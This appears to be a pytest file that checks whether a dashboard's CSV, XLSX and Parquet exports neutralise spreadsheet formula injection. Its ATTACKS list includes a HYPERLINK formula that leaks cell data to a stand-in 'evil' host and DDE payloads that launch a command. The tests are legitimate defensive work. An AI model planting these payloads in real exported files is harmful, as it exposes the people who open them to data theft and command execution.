"""Formula injection (OWASP "CSV injection"): public text that a spreadsheet would run is written as text.

Every dangerous first character goes through the real writers (pandas, openpyxl, pyarrow) and is read back:
no XLSX cell is a formula, CSV and XLSX show the text behind a single quote, Parquet keeps it as it was, numbers
(negative ones too) stay numbers, and platform ids stay text.
"""

import csv
import decimal
import io

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from dashboard.exports import to_bytes
from storage.csvsafe import GUARD, formula_safe

ATTACKS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    " =1+1",  # some importers trim leading spaces first
    "\n@SUM(1,1)",
    "\uff1d1+1",  # full-width equals sign
]
SAFE = ["plain post", 'a line\r=HYPERLINK("http://evil/?"&A1,"click")', "two\nlines", "ends with =1+1",
        "-5", " -5", "+1.5e3", "", "caf\u00e9"]


def frame() -> pd.DataFrame:
    texts = ATTACKS + SAFE
    n = len(texts)
    return pd.DataFrame({
        "platform": ["x"] * n,
        "post_id": [f"00{i}" for i in range(n)],  # ids with leading zeros: text, never numbers
        "text": texts,
        "score": [-1.5 - i for i in range(n)],
        "delta": [-i for i in range(n)],
        "amount": [decimal.Decimal(f"-{i}.25") for i in range(n)],
    })


def guarded(text: str) -> str:
    return GUARD + text


def xlsx_cells(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def test_xlsx_has_no_formula_and_shows_the_guarded_text():
    rows = xlsx_cells(to_bytes(frame(), "XLSX"))
    assert [c.data_type for row in rows for c in row].count("f") == 0
    header, body = [c.value for c in rows[0]], rows[1:]
    texts = [row[header.index("text")] for row in body]
    assert all(c.data_type == "s" for c in texts if c.value is not None)
    # an XML reader reads a carriage return as a line feed (XML's end-of-line rule); the guard is in front either way
    assert [c.value for c in texts[:len(ATTACKS)]] == [guarded(t).replace("\r", "\n") for t in ATTACKS]
    assert [c.value or "" for c in texts[len(ATTACKS):]] == [t.replace("\r", "\n") for t in SAFE]


def test_xlsx_keeps_numbers_and_ids():
    rows = xlsx_cells(to_bytes(frame(), "XLSX"))
    header, body = [c.value for c in rows[0]], rows[1:]
    score, delta, amount, post_id = (header.index(k) for k in ("score", "delta", "amount", "post_id"))
    assert [(r[score].value, r[score].data_type) for r in body[:3]] == [(-1.5, "n"), (-2.5, "n"), (-3.5, "n")]
    assert [r[delta].value for r in body[:3]] == [0, -1, -2] and body[2][delta].data_type == "n"
    assert body[1][amount].value == pytest.approx(-1.25) and body[1][amount].data_type == "n"
    assert [(r[post_id].value, r[post_id].data_type) for r in body[:2]] == [("000", "s"), ("001", "s")]


def test_csv_shows_the_guard_and_keeps_numbers():
    back = pd.read_csv(io.BytesIO(to_bytes(frame(), "CSV")), dtype={"post_id": str}, keep_default_na=False)
    assert list(back["text"][:len(ATTACKS)]) == [guarded(t) for t in ATTACKS]
    assert list(back["text"][len(ATTACKS):]) == SAFE
    assert list(back["score"][:2]) == [-1.5, -2.5] and list(back["delta"][:3]) == [0, -1, -2]
    assert list(back["post_id"][:2]) == ["000", "001"]


def test_csv_raw_bytes_start_each_attack_with_the_quote():
    raw = to_bytes(frame(), "CSV").decode()
    for attack in ATTACKS:
        assert f",{guarded(attack)}," in raw or f',"{guarded(attack)}",' in raw.replace('""', '"'), attack


def test_a_carriage_return_inside_a_post_does_not_start_a_csv_row():
    rows = list(csv.reader(io.StringIO(to_bytes(frame(), "CSV").decode(), newline="")))
    assert len(rows) == len(frame()) + 1 and {len(row) for row in rows} == {len(frame().columns)}
    assert not any(cell.startswith(ATTACKS[0][:2]) for row in rows for cell in row)


def test_parquet_keeps_the_original_text():
    table = pq.read_table(io.BytesIO(to_bytes(frame(), "Parquet")))
    assert table.column("text").to_pylist() == ATTACKS + SAFE
    assert table.column("post_id").to_pylist()[:2] == ["000", "001"]
    assert table.column("score").to_pylist()[0] == -1.5


def test_column_names_are_guarded_too():
    data = pd.DataFrame({"=1+1": ["a"], "@x": [1]})
    assert list(formula_safe(data).columns) == [guarded("=1+1"), guarded("@x")]
    rows = xlsx_cells(to_bytes(data, "XLSX"))
    assert [(c.value, c.data_type) for c in rows[0]] == [(guarded("=1+1"), "s"), (guarded("@x"), "s")]


def test_other_text_columns_are_guarded_whatever_their_dtype():
    data = pd.DataFrame({"cat": pd.Categorical(["=1+1", "ok"]), "obj": pd.Series(["@a", None], dtype=object),
                         "lists": [["=a"], ["b"]]})
    rows = xlsx_cells(to_bytes(data, "XLSX"))
    assert [c.data_type for row in rows for c in row].count("f") == 0
    assert [c.value for c in rows[1]] == [guarded("=1+1"), guarded("@a"), "['=a']"]


def test_a_control_character_does_not_stop_the_xlsx_export():
    data = pd.DataFrame({"text": ["bell\x07 in a post", "=1+1\x00"]})
    rows = xlsx_cells(to_bytes(data, "XLSX"))
    assert [c.value for c in (rows[1][0], rows[2][0])] == ["bell\ufffd in a post", guarded("=1+1\ufffd")]
